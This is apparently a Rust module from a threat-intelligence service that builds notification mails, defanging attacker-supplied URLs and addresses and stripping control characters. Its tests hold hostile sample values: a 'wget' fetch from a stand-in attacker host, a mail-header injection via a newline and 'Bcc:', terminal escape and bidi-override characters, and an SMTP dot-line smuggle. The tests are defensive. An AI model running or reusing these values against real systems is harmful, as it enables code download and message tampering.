//! The words of a mail. No input, no output.
//!
//! Attackers write values. A mail shows them in one line each, and defanged: what a person touches must not open, and a
//! mail with the URL of malware in it would not arrive.

use std::fmt::Write as _;

use cybexp_share::time;
use cybexp_store::{Subscription, SubscriptionId, Wanted};
use serde_json::Value;

use super::parcel::{Item, Parcel};

/// The most characters of a value or name.
const CHARS: usize = 200;
/// Types of values that mail programs make links of.
const ADDRESSES: [&str; 8] = [
    "ipv4",
    "ipv6",
    "cidr",
    "hostname",
    "domain",
    "url",
    "email_addr",
    "filename",
];

/// Returns the subject of a mail.
pub(super) fn subject(parcel: &Parcel<'_>) -> String {
    let items = parcel.items();
    let count = match items.len() {
        1 => "1 notice".to_owned(),
        n => format!("{n} notices"),
    };
    let subscriptions = grouped(items);
    match subscriptions.as_slice() {
        [(_, of)] => {
            let title = of.first().map(|item| title(item.subscription));
            format!("[CYBEX-P] {}: {count}", title.unwrap_or_default())
        }
        several => format!("[CYBEX-P] {count} of {} subscriptions", several.len()),
    }
}

/// Returns the text of a mail.
pub(super) fn text(parcel: &Parcel<'_>) -> String {
    let mut text = String::new();
    // writing to a text does not fail
    let _ = write_all(&mut text, parcel.items());
    text
}

/// Returns the items of each subscription, in the order in which the subscriptions come first.
fn grouped<'a, 'b>(items: &'b [Item<'a>]) -> Vec<(SubscriptionId, Vec<&'b Item<'a>>)> {
    let mut groups: Vec<(SubscriptionId, Vec<&Item<'_>>)> = Vec::new();
    for item in items {
        let id = item.id.subscription();
        match groups.iter_mut().find(|(known, _)| *known == id) {
            Some((_, group)) => group.push(item),
            None => groups.push((id, vec![item])),
        }
    }
    groups
}

fn write_all(text: &mut String, items: &[Item<'_>]) -> std::fmt::Result {
    for (id, group) in grouped(items) {
        if let Some(first) = group.first() {
            writeln!(text, "{}  (subscription {id})\n", title(first.subscription))?;
        }
        for item in group {
            write_item(text, item)?;
        }
    }
    text.push_str(
        "-- \nYou subscribed to this. `cybexp watch list` shows your subscriptions, and\n\
         `cybexp watch remove ID` ends one. Values are defanged: [.] is a dot, hxxp is http.\n\
         A notice that comes twice has the same id:\n",
    );
    items
        .iter()
        .try_for_each(|item| writeln!(text, "{}", item.id))
}

fn write_item(text: &mut String, item: &Item<'_>) -> std::fmt::Result {
    let told = &item.told;
    if let Some(name) = told["feed"]["name"].as_str() {
        let change = match told["change"].as_str() {
            Some("left") => "a value left",
            _ => "a value came into",
        };
        let at = time::millis(item.at);
        writeln!(text, "{at}  {change} the feed {}", clean(name))?;
        write_values(text, std::slice::from_ref(&told["value"]))?;
    } else {
        let event = &told["event"];
        let field = |name: &str| clean(event[name].as_str().unwrap_or_default());
        let at = time::millis(event["timestamp"].as_f64().unwrap_or_default());
        writeln!(text, "{at}  {}, {}", field("sub_type"), field("category"))?;
        let values = event["values"].as_array();
        write_values(text, values.map_or(&[], Vec::as_slice))?;
        writeln!(text, "    event {}", field("_hash"))?;
    }
    text.push('\n');
    Ok(())
}

fn write_values(text: &mut String, values: &[Value]) -> std::fmt::Result {
    let sub_type = |value: &Value| clean(value["sub_type"].as_str().unwrap_or_default());
    let width = values.iter().map(|value| sub_type(value).chars().count());
    let width = width.max().unwrap_or_default();
    for value in values {
        let sub_type = sub_type(value);
        let data = match &value["data"] {
            Value::String(data) => defanged(&sub_type, &clean(data)),
            other => other.to_string(),
        };
        let cut = match value["cut"] == true {
            true => " …",
            false => "",
        };
        writeln!(text, "    {sub_type:width$}  {data}{cut}")?;
    }
    Ok(())
}

/// Returns the name of a subscription; of one that has none, what it is to.
fn title(subscription: &Subscription) -> String {
    let name = subscription.name.trim();
    if !name.is_empty() {
        return clean(name);
    }
    match &subscription.wanted {
        Wanted::Value { sub_type, data, .. } => {
            let data = data.as_str().map_or_else(|| data.to_string(), clean);
            format!("{sub_type} {}", defanged(sub_type, &data))
        }
        Wanted::Feed { name } => format!("feed {}", clean(name)),
        Wanted::Events {
            sub_type,
            category,
            sensor,
        } => {
            let category = category.map(|category| category.as_str().to_owned());
            let sensor = sensor.as_ref().map(|sensor| format!("of {sensor}"));
            let conditions = [category, sub_type.clone(), sensor].into_iter().flatten();
            let conditions: Vec<String> = conditions.collect();
            clean(&format!("events {}", conditions.join(" ")))
        }
    }
}

/// Returns a value that no program takes for an address.
fn defanged(sub_type: &str, data: &str) -> String {
    let data = data.replace("http://", "hxxp://");
    let data = data.replace("https://", "hxxps://");
    match ADDRESSES.contains(&sub_type) {
        true => data.replace('.', "[.]").replace('@', "[@]"),
        false => data,
    }
}

/// Replaces what could act on the reader's program: attackers write values.
fn clean(text: &str) -> String {
    let is_odd = |c: char| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    };
    let clean = text.chars().take(CHARS);
    clean
        .map(|c| if is_odd(c) { '\u{fffd}' } else { c })
        .collect()
}

#[cfg(test)]
mod tests {
    use cybexp_store::{Channel, NoticeId};
    use serde_json::json;
    use tahoe_core::Hash;

    use super::*;

    fn subscription(name: &str) -> Subscription {
        Subscription {
            user: "u".to_owned(),
            name: name.to_owned(),
            wanted: Wanted::Value {
                sub_type: "hostname".to_owned(),
                data: "evil.example".into(),
                forms: Vec::new(),
            },
            channel: Channel::Mail,
            tlp: "green".to_owned(),
            made: 0.0,
        }
    }

    fn told(id: SubscriptionId, subscription: &Subscription, told: Value) -> Item<'_> {
        Item {
            id: NoticeId::of(id, Hash::of(&["x"])),
            subscription,
            at: 6.0,
            told,
        }
    }

    #[test]
    fn a_mail_is_read_by_a_person() {
        let (scanner, host) = (subscription("scanner"), subscription(""));
        let (one, other) = (SubscriptionId::new(), SubscriptionId::new());
        let event = json!({
            "_hash": "e", "sub_type": "ssh", "orgid": "o", "timestamp": 5.0, "category": "malicious",
            "values": [{"sub_type": "ipv4", "data": "203.0.113.9"},
                       {"sub_type": "shell_command", "data": "wget http://evil.example/x", "cut": true}],
        });
        let feed = json!({"feed": {"name": "f"}, "change": "left", "value": {"sub_type": "port", "data": 22}});
        let items = vec![
            told(one, &scanner, json!({"event": event})),
            told(other, &host, feed),
            told(one, &scanner, json!({"event": event})),
        ];
        let parcel = Parcel::new(items, 7.5);
        assert_eq!(subject(&parcel), "[CYBEX-P] 3 notices of 2 subscriptions");
        let expected = format!(
            "scanner  (subscription {one})\n\n\
             1970-01-01T00:00:05.000Z  ssh, malicious\n    ipv4           203[.]0[.]113[.]9\n    \
             shell_command  wget hxxp://evil.example/x …\n    event e\n\n\
             1970-01-01T00:00:05.000Z  ssh, malicious\n    ipv4           203[.]0[.]113[.]9\n    \
             shell_command  wget hxxp://evil.example/x …\n    event e\n\n\
             hostname evil[.]example  (subscription {other})\n\n\
             1970-01-01T00:00:06.000Z  a value left the feed f\n    port  22\n\n-- \n"
        );
        let text = text(&parcel);
        assert!(text.starts_with(&expected), "{text}");
        assert_eq!(text.lines().filter(|line| line.len() == 88).count(), 3);
        let parcel = Parcel::new(vec![told(other, &host, json!({}))], 7.5);
        assert_eq!(
            subject(&parcel),
            "[CYBEX-P] hostname evil[.]example: 1 notice"
        );
    }

    #[test]
    fn what_attackers_wrote_stays_in_its_line() {
        let hostile = subscription("scanner\nBcc: all@example.com");
        let value = json!({"sub_type": "shell_command", "data": "a\r\n\u{1b}[2Jb\u{202e}c"});
        let event = json!({"sub_type": "ssh\r\n.\r\n", "timestamp": 5.0, "values": [value]});
        let id = SubscriptionId::new();
        let parcel = Parcel::new(vec![told(id, &hostile, json!({"event": event}))], 7.5);
        assert!(!subject(&parcel).contains('\n'));
        let text = text(&parcel);
        assert!(!text.contains(['\u{1b}', '\r', '\u{202e}']), "{text}");
        assert!(!text.lines().any(|line| line == "."), "{text}");
    }
}
